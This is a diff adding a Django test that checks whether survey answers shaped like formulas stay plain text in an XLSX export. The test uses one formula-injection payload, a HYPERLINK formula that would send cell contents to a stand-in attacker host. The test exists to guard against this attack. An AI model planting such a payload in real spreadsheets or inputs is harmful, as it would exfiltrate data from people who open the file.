@@ -4,6 +4,7 @@ import openpyxl
 import time_machine
 from django.urls import reverse
 
+from profploeg.evaluations import services
 from profploeg.evaluations.models import Invitation, Response
 from profploeg.test import PASSWORD
 
@@ -82,6 +83,31 @@ class EvaluationPageTests(EvaluationTestCase):
         values = [row[1].value for row in summary.iter_rows(min_row=2)]
         # sent, answered
         self.assertEqual(values[3:5], [1, 1])
+
+    def test_an_answer_that_looks_like_a_formula_stays_text_in_the_xlsx(self):
+        trajectory = self.complete(self.brugge)
+        invitation = Invitation.objects.get(trajectory=trajectory)
+        questions = list(invitation.questionnaire.active_questions())
+        hostile = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
+        services.submit_response(
+            invitation=invitation,
+            scores={q.pk: 4 for q in questions if q.kind == "scale"},
+            texts={q.pk: hostile for q in questions if q.kind == "text"},
+            measures={1: "carried_out", 2: "planned", 3: "not_planned"},
+        )
+        self.login(self.staff)
+        response = self.client.get(self.url + "?format=xlsx")
+        workbook = openpyxl.load_workbook(io.BytesIO(response.content))
+        cells = [
+            cell
+            for sheet in workbook.worksheets
+            for row in sheet.iter_rows()
+            for cell in row
+            if isinstance(cell.value, str) and "evil.example" in cell.value
+        ]
+        self.assertTrue(cells)
+        for cell in cells:
+            self.assertEqual(cell.data_type, "s")
 
     def test_other_roles_do_not_see_the_evaluation_page(self):
         for user in (self.expert, self.alice, self.paula):
